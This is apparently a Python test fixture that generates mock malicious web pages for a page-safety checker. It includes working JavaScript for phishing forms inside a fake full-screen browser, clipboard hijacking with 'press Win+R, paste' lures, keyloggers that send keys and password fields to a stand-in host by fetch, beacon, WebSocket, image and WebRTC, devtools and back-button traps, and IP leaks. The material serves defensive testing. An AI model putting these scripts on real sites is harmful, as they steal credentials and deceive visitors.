"""Tricks played by script: full screen, clipboard, listening to keys, traps, requests for the machine's senses."""

from __future__ import annotations

from tests.pages.guises.page import LOCK, TrickyPage, dress

HARMLESS_COMMAND = "cmd /c echo chaffinch test page"
FORM = """<form method=post action=/c><label>Adresse <input name=a id=a></label><label>Mot de passe
<input type=password name=b id=b></label><button>Connexion</button></form>"""
BAR = f"""<div style="background:#dee1e6;padding:10px 16px;color:#222;font:14px DejaVu Sans">← → ⟳ &nbsp; <span style="background:#fff;border-radius:14px;
padding:5px 240px 5px 16px">{LOCK} https://comptes.courriel-libre.example</span></div>"""


def _sign(
    name: str, trick: str, why: str, script: str, *, click: str = "", look: str = "card", extra: str = ""
) -> TrickyPage:
    """Return a sign-in page with a script."""
    return TrickyPage(
        name=name,
        trick=trick,
        why=why,
        click=click,
        html=dress("Connexion", f"<main><h1>Connexion</h1>{FORM}{extra}</main>", look=look, script=script),
    )


def _tell(
    name: str,
    trick: str,
    why: str,
    words: tuple[str, str, str],
    script: str,
    *,
    click: str = "",
    look: str = "card",
) -> TrickyPage:
    """Return a page of a title, a text and a button `go`, with a script."""
    title, text, button = words
    press = f"<button id=go>{button}</button>" if button else ""
    return TrickyPage(
        name=name,
        trick=trick,
        why=why,
        click=click,
        html=dress(
            title, f"<main id=m><h1>{title}</h1><p>{text}</p>{press}</main>", look=look, script=script
        ),
    )


def _list_screens() -> tuple[TrickyPage, ...]:
    """Return full-screen and clipboard tricks."""
    fake = f"document.body.innerHTML = `{BAR}<main><h1>Courriel Libre</h1>{FORM}</main>`;"
    steps = "Appuyez sur Win + R, puis Ctrl + V, puis Entrée."
    return (
        _tell(
            "fullscreen-fake-browser",
            "fullscreen",
            "A click goes full screen and draws a browser with another address.",
            ("Courrier", "Un message vous attend.", "Ouvrir la messagerie"),
            f"go.onclick = () => {{ document.documentElement.requestFullscreen().catch(() => {{}}); {fake} }};",
            click="#go",
        ),
        _tell(
            "fullscreen-prefixed-any-click",
            "fullscreen",
            "Any click anywhere; the prefixed name of the call, looked up by a put-together string.",
            ("Photos", "Cliquez pour agrandir.", ""),
            f"""addEventListener('click', () => {{
  const root = document.documentElement;
  (root['webkitRequest' + 'FullScreen'] || root.requestFullscreen).call(root);
  {fake}
}}, {{once: true}});""",
            click="body",
            look="dark",
        ),
        _tell(
            "clipboard-on-click",
            "clipboard",
            "'I am not a robot' puts a command on the clipboard and tells to run it.",
            ("Vérification", "Confirmez que vous êtes humain.", "☐ Je ne suis pas un robot"),
            f"""go.onclick = () => {{
  navigator.clipboard.writeText('{HARMLESS_COMMAND}').catch(() => {{}});
  m.innerHTML = '<h1>Étapes de vérification</h1><p>{steps}</p>';
}};""",
            click="#go",
        ),
        _tell(
            "clipboard-on-load",
            "clipboard",
            "The command is put on the clipboard at load, the steps stand there from the start.",
            ("Browser update needed", "Press Win+R, then Ctrl+V, then Enter to update your fonts.", ""),
            f"addEventListener('load', () => navigator.clipboard.writeText('{HARMLESS_COMMAND}').catch(() => {{}}));",
            look="office",
        ),
        _tell(
            "clipboard-exec-command",
            "clipboard",
            "The old way: a text area out of sight and execCommand('copy'), for a terminal.",
            (
                "Correction du microphone",
                "Ouvrez le Terminal, collez avec ⌘V et validez.",
                "Copier la correction",
            ),
            f"""go.onclick = () => {{
  const area = document.createElement('textarea');
  area.style.cssText = 'position:fixed;left:-999px';
  area.value = '{HARMLESS_COMMAND}';
  document.body.append(area);
  area.select();
  document.execCommand('copy');
  area.remove();
}};""",
            click="#go",
            look="dark",
        ),
        _tell(
            "clipboard-copy-event",
            "clipboard",
            "What the visitor copies is exchanged in the copy event.",
            ("Install", "Copy this line: <code>pip install harbour</code>", ""),
            f"""document.addEventListener('copy', event => {{
  event.clipboardData.setData('text/plain', '{HARMLESS_COMMAND}');
  event.preventDefault();
}});""",
            look="press",
        ),
    )


def _list_ears() -> tuple[TrickyPage, ...]:
    """Return pages that send each key elsewhere."""
    return (
        _sign(
            "keys-by-fetch",
            "key-listener",
            "Each key goes to another host by fetch.",
            """document.addEventListener('keydown', event => {
  fetch('https://oreille.relais-depot.test/k', {method: 'POST', mode: 'no-cors', body: event.key}).catch(() => {});
});""",
        ),
        _sign(
            "keys-by-beacon",
            "key-listener",
            "Each change of the fields goes to another host by sendBeacon.",
            "document.querySelector('form').oninput = () => navigator.sendBeacon('https://oreille.relais-depot.test/b', a.value + '\\n' + b.value);",
            look="office",
        ),
        _sign(
            "keys-by-web-socket",
            "key-listener",
            "Each key goes through a WebSocket to another host.",
            """const line = new WebSocket('wss://oreille.relais-depot.test/ws'), kept = [];
line.onopen = () => kept.splice(0).forEach(key => line.send(key));
addEventListener('keyup', event => { if (line.readyState === 1) line.send(event.key); else kept.push(event.key); });""",
            look="dark",
        ),
        _sign(
            "keys-by-image-batches",
            "key-listener",
            "Keys are gathered and leave every two seconds in the address of an image.",
            """let kept = '';
addEventListener('keypress', event => { kept += event.key; });
setInterval(() => {
  if (!kept) return;
  new Image().src = 'https://oreille.relais-depot.test/p.gif?' + encodeURIComponent(kept);
  kept = '';
}, 2000);""",
            look="phone",
        ),
    )


def _list_traps() -> tuple[TrickyPage, ...]:
    """Return pages that hinder whoever looks closer or leaves."""
    return (
        _sign(
            "right-click-listener",
            "right-click-off",
            "The context menu is stopped.",
            "addEventListener('contextmenu', event => event.preventDefault());",
        ),
        _sign(
            "right-click-and-keys",
            "right-click-off",
            "Context menu, selection, F12 and Ctrl+U are stopped.",
            """document.oncontextmenu = document.onselectstart = () => false;
document.onkeydown = event => !(event.key === 'F12' || (event.ctrlKey && 'uUsS'.includes(event.key)));""",
            look="dark",
        ),
        _sign(
            "debugger-in-interval",
            "devtools-trap",
            "debugger in an interval.",
            "setInterval(() => { debugger; }, 1000);",
        ),
        _sign(
            "debugger-in-function",
            "devtools-trap",
            "debugger made from a string; when it held, the page empties itself.",
            """setInterval(() => {
  const start = performance.now();
  Function('debug' + 'ger')();
  if (performance.now() - start > 100) document.body.textContent = '';
}, 800);""",
            look="office",
        ),
        _sign(
            "devtools-by-window-size",
            "devtools-trap",
            "Leaves when the outer and inner sizes of the window differ much.",
            "setInterval(() => { if (outerWidth - innerWidth > 200 || outerHeight - innerHeight > 300) location.replace('about:blank'); }, 1000);",
            look="dark",
        ),
        _tell(
            "history-push-loop",
            "history-trap",
            "A loop of pushState, and popstate pushes again.",
            ("Alerte", "Votre ordinateur est bloqué. Appelez l’assistance au 000.", ""),
            """for (let step = 0; step < 50; step++) history.pushState({}, '', '#' + step);
addEventListener('popstate', () => history.pushState({}, '', '#again'));""",
        ),
        _tell(
            "history-back-to-offer",
            "history-trap",
            "The back button leads to a page of the host instead.",
            ("Sondage", "Merci de votre visite.", ""),
            "history.pushState(null, '', location.href);\nonpopstate = () => { m.innerHTML = '<h1>Attendez !</h1><p>Vous avez gagné.</p>'; history.go(1); };",
            look="phone",
        ),
        _tell(
            "leave-warning-loop",
            "history-trap",
            "beforeunload asks whether to leave, again and again.",
            ("Analyse en cours", "Ne fermez pas cette page.", ""),
            "addEventListener('beforeunload', event => { event.preventDefault(); event.returnValue = 'Non'; });",
            look="dark",
        ),
    )


def _list_senses() -> tuple[TrickyPage, ...]:
    """Return pages that ask for the machine's senses, or open its dialogs."""
    return (
        _tell(
            "print-on-load",
            "print-dialog",
            "The print dialog opens at load.",
            ("Bon de livraison", "Impression…", ""),
            "addEventListener('load', () => print());",
        ),
        _tell(
            "print-loop",
            "print-dialog",
            "The print dialog opens again whenever it is closed.",
            ("Virus trouvé", "Appelez l’assistance.", ""),
            "addEventListener('afterprint', () => setTimeout(print, 500));\nsetTimeout(print, 1500);",
            look="dark",
        ),
        _tell(
            "webcam-on-load",
            "webcam",
            "Camera and microphone at load.",
            ("Vérification du visage", "Placez votre visage dans le cadre.", ""),
            "navigator.mediaDevices.getUserMedia({video: true, audio: true}).catch(() => {});",
            look="phone",
        ),
        _tell(
            "webcam-identity",
            "webcam",
            "Camera after a click, for a 'check of identity' with a sign-in.",
            ("Contrôle d’identité", "Filmez votre pièce d’identité.", "Commencer"),
            "go.onclick = () => navigator.mediaDevices.getUserMedia({video: {facingMode: 'environment'}}).catch(() => {});",
            click="#go",
        ),
        _tell(
            "notification-on-load",
            "notification",
            "Asks for notifications at load: 'press Allow to go on'.",
            ("Un instant", "Cliquez sur Autoriser pour prouver que vous n’êtes pas un robot.", ""),
            "Notification.requestPermission();",
        ),
        _tell(
            "notification-old-callback",
            "notification",
            "The old call with a callback, on any click.",
            ("Vidéo", "Cliquez pour lire.", "▶"),
            "addEventListener('click', () => Notification.requestPermission(answer => { m.dataset.answer = answer; }));",
            click="#go",
            look="dark",
        ),
        _tell(
            "geolocation-on-load",
            "geolocation",
            "Asks where the visitor is, at load, and sends it.",
            ("Colis", "Nous cherchons votre point de retrait.", ""),
            """navigator.geolocation.getCurrentPosition(place => {
  fetch('/ou', {method: 'POST', body: `${place.coords.latitude},${place.coords.longitude}`});
}, () => {});""",
        ),
        _tell(
            "geolocation-watched",
            "geolocation",
            "Follows the visitor's place after a click.",
            ("Rendez-vous", "Vérifiez que vous êtes au bon endroit.", "Vérifier"),
            "go.onclick = () => navigator.geolocation.watchPosition(() => {}, () => {}, {enableHighAccuracy: true});",
            click="#go",
            look="office",
        ),
        _tell(
            "rtc-stun",
            "rtc",
            "A peer connection to a STUN server finds the visitor's addresses.",
            ("Chargement", "Veuillez patienter.", ""),
            """const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.relais-depot.test:3478'}]});
peer.createDataChannel('x');
peer.onicecandidate = event => { if (event.candidate) navigator.sendBeacon('/ip', event.candidate.candidate); };
peer.createOffer().then(offer => peer.setLocalDescription(offer));""",
        ),
        _sign(
            "rtc-keys",
            "rtc",
            "A data channel over TURN would carry the fields away.",
            """const peer = new window['webkitRTC' in window ? 'webkitRTC' : 'RTCPeerConnection'](
  {iceServers: [{urls: 'turn:turn.relais-depot.test', username: 'u', credential: 'c'}]});
const pipe = peer.createDataChannel('f');
document.querySelector('form').onsubmit = event => {
  event.preventDefault();
  if (pipe.readyState === 'open') pipe.send(a.value + b.value);
};
peer.createOffer().then(offer => peer.setLocalDescription(offer));""",
            look="office",
        ),
    )


def list_scripts() -> tuple[TrickyPage, ...]:
    """Return the tricks played by script."""
    return _list_screens() + _list_ears() + _list_traps() + _list_senses()
